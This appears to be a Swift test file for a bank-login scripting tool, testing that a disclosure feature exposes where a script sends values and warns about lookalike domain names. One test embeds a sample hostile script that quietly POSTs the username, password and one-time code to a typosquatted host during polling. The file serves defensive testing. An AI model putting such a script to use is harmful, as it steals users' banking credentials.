import BankScript
import Encodings
import Foundation
import Messages
import Phone
import Selectors
import TestParties
import TestSupport
import Testing

@Suite("A script that hides what it sends")
struct HiddenOutflowTests {
    /// The review's script: the password leaves while it polls, and the code in a request.
    private static let evil = """
        bank: default
        name: Meridian Savings
        origins: [https://bank.example, https://cdn.meridian-savlngs.example]
        steps:
          - open: /login
          - second factor: { as: code, question: Type your vault passphrase, from: [person], within: 2 min }
          - request: { POST: "https://cdn.meridian-savlngs.example/x", body: { c: { captured: code } } }
          - capture: { page: { css: main, secret: true } }
          - request: { POST: "https://cdn.meridian-savlngs.example/y", headers: { X-Note: { captured: page } } }
          - wait until:
              json: $.ok
              is: "1"
              polling:
                POST: https://cdn.meridian-savlngs.example/collect
                body: { u: $username, p: $password, c: { captured: code } }
              every: 1 s
              within: 1 min
          - download: PDF
        """

    @Test("the words of a poll, a code, a capture and a question are shown, and where each value goes")
    func shown() throws {
        let disclosure = ScriptDisclosure(try BankScript(yaml: Self.evil, file: "evil.yaml"))
        let text = disclosure.lines.joined(separator: "\n")
        for words in [
            "POST https://cdn.meridian-savlngs.example/collect", "body $.p: the password",
            "body $.c: the captured code",
            "asks you “Type your vault passphrase”", "from the text of css “main”", "header X-Note: the captured page",
        ] { #expect(text.contains(words), "\(words)") }
        #expect(
            disclosure.summary == [
                "https://cdn.meridian-savlngs.example: a one-time code, the captured page, the password, the username"
            ])
        let collected = disclosure.outflows.filter { $0.means.contains("/collect, again every 1 s") }
        #expect(Set(collected.map(\.item)) == ["the username", "the password", "a one-time code"])
    }

    // MARK: Every leaf

    /// A script with every part of the language.
    private static let whole = """
        bank: everything
        name: Every Part
        origins: [https://bank.example, https://login.bank.example]
        pins:
          https://bank.example:
            - sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
            - sha256/BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=
        testing: true
        locale: de
        attempts: 3
        parameters: { month: 2..11, year: 1999..2077 }
        interruptions:
          - { when: { titled: Wartung }, fail: NAVIGATION_FAILED, reason: maintenance }
          - when: { all: [{ says: Angebot }, { not: .ad }, { any: [{ path: /offer* }, { status: 203..204 }] }] }
            pass: [follow: { link: { exact: "Nein, danke" }, in: { heading: { regex: "An.*" } }, nth: 4 }]
        steps:
          - open: /anfang
          - open: https://login.bank.example/{{ year }}
          - fill: { Kunde: $username, Kennwort: $password, Fest: literal text }
          - fill: { xpath: "//input[@id='x']", with: "{{ month.name }}" }
          - choose: { Jahr: "{{ year }}" }
          - check: Bleiben
          - uncheck: Werbung
          - press: { button: Anmelden, containing: jetzt }
          - enter: "#frame"
          - second factor:
              { field: Eingabe, picture: .bild, from: [vault, person], within: 117 s, confirm: Senden, question: Welche TAN?, token: Foton }
          - second factor: { push until: { shows: { row: Umsatz } }, every: 3 s, from: [person], within: 61 s }
          - second factor: { choice: .verfahren, from: [person], within: 62 s }
          - second factor: { as: tan, from: [vault], within: 63 s }
          - expect: { shows: { cell: Saldo, in: { row: Girokonto } } }
          - fail: { BANK_LOGIN_FAILED: .fehler, reason: wrong_credentials }
          - when: { equal: ["{{ month }}", "7"] }
            then: [follow: Juli]
            otherwise: [follow: { control: Anderer }]
          - search: { for: { text: Auszug }, next: Weiter, at most: 13 pages }
          - capture: { stand: { css: "#stand", matching: "([0-9]+)" } }
          - capture: { ort: { css: a, attribute: href } }
          - capture: { kopf: { header: X-Kopf, secret: true } }
          - capture: { keks: { cookie: sitzung } }
          - capture: { pfad: { json: "$.pfad[2]" } }
          - capture: { satz: { template: "Satz {{ stand }}" } }
          - request:
              PUT: /api/{{ keks }}
              headers: { X-Eins: { scheme: Bearer, captured: kopf }, X-Zwei: zwei }
              body: { a: [1.5, 42, true, false, null, tief], b: { c: { captured: tan }, leer: { } } }
              expecting: 207..208
          - wait until: { page: { json: $.fertig, is: ja }, polling: { GET: /api/fertig }, every: 700 ms, within: 64 s }
          - wait until: { page: .fertig, every: 4 s, within: 65 s }
          - when: .a
            then: [download: { control: PDF, at most: 77777 }]
            otherwise:
              - when: .b
                then: [download: { open: "/pdf/{{ pfad }}" }]
                otherwise: [download: { request: { GET: /holen, headers: { X-Drei: drei } } }]
        finally:
          - press: Abmelden
        """

    /// The leaves of a script's JSON, as the texts that a reader has to find.
    private func leaves(of json: JSONValue, named name: String = "") -> [String] {
        switch json {
        case .object(let members): members.flatMap { leaves(of: $1, named: $0) }
        case .array(let items): items.flatMap { leaves(of: $0, named: name) }
        case .string(let text): [text]
        case .bool(let bool): name == "on" || name == "secret" || name == "testing" ? [] : ["\(bool)"]
        case .null: ["null"]
        case .number(let number):
            if ["every", "within"].contains(name) {
                [number.truncatingRemainder(dividingBy: 1000) == 0 ? "\(Int(number) / 1000) s" : "\(Int(number)) ms"]
            } else if let size = Int(exactly: number), size > 0, size.isMultiple(of: 1 << 20) {
                ["\(size >> 20) MiB"]
            } else {
                [Int(exactly: number).map(String.init) ?? "\(number)"]
            }
        }
    }

    @Test("every leaf of a script's JSON is among what accept prints")
    func everyLeaf() async throws {
        let folder = try TemporaryFolder()
        defer { folder.remove() }
        let file = folder.appending("whole.yaml")
        try Data(Self.whole.utf8).write(to: file)
        let script = try BankScript(yaml: Self.whole, file: "whole.yaml")
        let text = ScriptDisclosure(script).lines.joined(separator: "\n")
        let wanted = Set(leaves(of: script.json))
        #expect(wanted.count > 110)
        let missing = wanted.filter { !text.contains($0) }
        #expect(missing.isEmpty, "accept does not print \(missing.sorted())\n\(text)")
        // The flags, which have words of their own.
        for words in ["testing: true", "kept as a secret", "- check field “Bleiben”", "- uncheck field “Werbung”"] {
            #expect(text.contains(words), "\(words)")
        }
    }

    // MARK: Names that imitate others

    @Test("a name in foreign letters is shown in ASCII, with a warning")
    func foreignLetters() throws {
        let mixed = ScriptDisclosure(BankScript("default", named: "Bank", at: "https://b\u{430}nking.example") {})
        #expect(mixed.lines.contains { $0.contains("https://xn--bnking-3nf.example, written") }, "\(mixed.lines)")
        #expect(mixed.warnings.first?.contains("mixes letters of several scripts") == true)
        let whole = ScriptDisclosure(
            BankScript("default", named: "Bank", at: "https://\u{430}\u{440}\u{440}\u{4CF}\u{435}.example") {})
        #expect(whole.warnings.first?.contains("letters that can look like others") == true)
        let plain = BankScript("default", named: "Bank", at: "https://banking.example") {
            Download("PDF {{ month }} {{ year }}")
        }
        #expect(ScriptDisclosure(plain).warnings.isEmpty)
        var foreign = plain
        foreign.origins = ["https://b\u{430}nking.example"]
        #expect(ScriptLint.findings(in: foreign).map(\.rule) == ["origin-letters"])
    }

    // MARK: Testing scripts

    @Test("a script for testing gets no credentials, and its request is not even shown")
    func testing() async throws {
        try await TestPhone.with { phone in
            let script = BankScript.countingBank(at: "http://127.0.0.1:9")
            do {
                let runner = try phone.runner(script, servesTestBank: false)
                #expect(try await phone.requests(1, to: runner).isEmpty)
                #expect(try await runner.refresh().refused.first?.message.contains("is for testing") == true)
            }
            let runner = try phone.runner(script, servesTestBank: true)
            #expect(try await !phone.requests(1, to: runner).isEmpty)
        }
    }
}
